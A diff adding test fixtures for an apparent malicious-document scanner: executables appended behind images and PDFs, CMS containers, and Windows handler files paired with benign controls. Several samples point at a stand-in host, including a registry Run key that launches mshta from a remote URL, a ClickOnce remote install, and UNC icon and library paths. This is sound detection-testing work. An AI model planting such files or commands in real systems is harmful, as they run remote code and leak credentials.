@@ -362,6 +362,28 @@ def relation(kind: str, target: str, mode: str = "External") -> bytes:
     return f'<?xml version="1.0"?><Relationships><Relationship Id="a" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()
 
 
+_PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82"
+_JPEG = (
+    b"\xff\xd8\xff\xe0\0\x10JFIF\0"
+    + bytes(9)
+    + b"\xff\xe1\0\x06\xff\xd9\0\0\xff\xda\0\x02\x12\xff\0\x34\xff\xd0\x56\xff\xd9"
+)
+
+
+def cms(kind_of: str, content: bytes) -> bytes:
+    """A container of CMS without a signer; nothing in it is really encrypted."""
+    from asn1crypto import cms as asn1
+
+    if kind_of == "signed_data":
+        inner = {"content_type": "data", **({"content": content} if content else {})}
+        signed = {"version": "v1", "digest_algorithms": [], "encap_content_info": inner, "signer_infos": []}
+        return bytes(asn1.ContentInfo({"content_type": kind_of, "content": asn1.SignedData(signed)}).dump())
+    cipher = {"algorithm": "aes256_cbc", "parameters": bytes(16)}
+    hidden = {"content_type": "data", "content_encryption_algorithm": cipher, "encrypted_content": content}
+    sealed = {"version": "v0", "recipient_infos": [], "encrypted_content_info": hidden}
+    return bytes(asn1.ContentInfo({"content_type": kind_of, "content": asn1.EnvelopedData(sealed)}).dump())
+
+
 def odf(parts: dict[str, bytes]) -> bytes:
     """An OpenDocument text."""
     kind = b"application/vnd.oasis.opendocument.text"
@@ -481,6 +503,41 @@ GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
         ("dde_in_pieces", "document.xml", b"<?xml version='1.0'?><w:document>" + _FIELD_PARTS + b"</w:document>"),
         ("page_number", "document.xml", b"<?xml version='1.0'?><w:document><w:fldSimple w:instr=\" PAGE \"/><w:t>DDEAUTO is a word</w:t></w:document>"),
         ("dde_link", "externalLink1.xml", b"<?xml version='1.0'?><externalLink><ddeLink ddeService='cmd' ddeTopic='/k echo'/></externalLink>"),
+    ],
+    "appended": [
+        ("program_behind_picture", "m.png", _PNG + PE),
+        ("zip_behind_gif", "m.gif", b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2\x44\1\0;" + zipped({"a.exe": PE})),
+        ("zip_behind_jpeg", "m.jpg", _JPEG + zipped({"a.exe": PE}) + bytes(9)),
+        ("zip_behind_pdf", "m.pdf", pdf() + zipped({"a.exe": PE})),
+        ("noise_before_zip", "m.zip", b"\x93" * 200 + zipped({"a.exe": PE})),
+        ("picture_behind_picture", "m.jpg", _JPEG + _JPEG),
+        ("sheet_at_the_end_of_a_storage", "m.doc", cfb({"Package": DOCX.ljust(-(-len(DOCX) // 512) * 512, b"\0")})),
+        ("two_picture_ends", "m.png", _PNG[:-12] + b"\0\0\0\4tEXtIEND\0\0\0\0" + _PNG[-12:]),
+    ],
+    "handler": [
+        ("settings", "m.SettingContent-ms", b"<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c echo</DeepLink></PCSettings>"),
+        ("settings_page", "m.SettingContent-ms", b"<PCSettings><DeepLink>%windir%\\system32\\control.exe</DeepLink></PCSettings>"),
+        ("library", "m.library-ms", b"<?xml version='1.0'?><libraryDescription><url>\\\\192.0.2.7\\s</url></libraryDescription>"),
+        ("own_library", "m.library-ms", b"<?xml version='1.0'?><libraryDescription><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></libraryDescription>"),
+        ("console", "m.msc", b"<?xml version='1.0'?><MMC_ConsoleFile><String ID='1'>res://apds.dll/redirect.html?target=javascript:x</String></MMC_ConsoleFile>"),
+        ("own_console", "m.msc", b"<?xml version='1.0'?><MMC_ConsoleFile><String ID='1'>Event Viewer</String></MMC_ConsoleFile>"),
+        ("autostart", "m.reg", b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"u"="mshta http://192.0.2.7/a"\r\n'),
+        ("setting", "m.reg", b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n"u"="Run cmd"\r\n'),
+        ("remote_desktop", "m.rdp", b"full address:s:192.0.2.7\r\ndrivestoredirect:s:*\r\n"),
+        ("own_desktop", "m.rdp", b"screen mode id:i:2\r\nfull address:s:server1\r\ndrivestoredirect:s:\r\n"),
+        ("query", "m.iqy", b"WEB\r\n1\r\nhttp://192.0.2.7/a.dat\r\n"),
+        ("own_query", "m.iqy", b"WEB\r\n1\r\nhttps://rates.example/today\r\n"),
+        ("icon", "desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\s\\a.ico,0\r\n"),
+        ("own_icon", "desktop.ini", b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,3\r\n"),
+        ("folder", "m.url", b"[InternetShortcut]\r\nURL=C:\\Program Files\\Internet Explorer\\iediagcmd.exe\r\nWorkingDirectory=\\\\192.0.2.7@ssl\\x\r\n"),
+        ("old_browser", "m.url", b"[InternetShortcut]\r\nURL=mhtml:http://192.0.2.7/a.html!x-usc:http://192.0.2.7/a.html\r\n"),
+        ("installs", "m.application", b"<?xml version='1.0'?><asmv1:assembly xmlns='x'><deployment install='true'><deploymentProvider codebase=\"http://192.0.2.7/a.application\"/></deployment></asmv1:assembly>"),
+    ],
+    "smime": [
+        ("signed", "smime.p7m", cms("signed_data", b"Content-Type: text/plain\r\n\r\nThe minutes.\r\n")),
+        ("beside", "smime.p7s", cms("signed_data", b"")),
+        ("encrypted", "smime.p7m", cms("enveloped_data", b"noise")),
+        ("cut", "smime.p7m", cms("signed_data", b"Content-Type: text/plain\r\n\r\nThe minutes.\r\n")[:-20]),
     ],
     "odf_macro": [
         ("starts_by_itself", "m.odt", odf({"content.xml": _LISTENER, "Basic/Standard/Module1.xml": _BASIC, "Scripts/python/a.py": b"import os\nos.system('echo')\n"})),
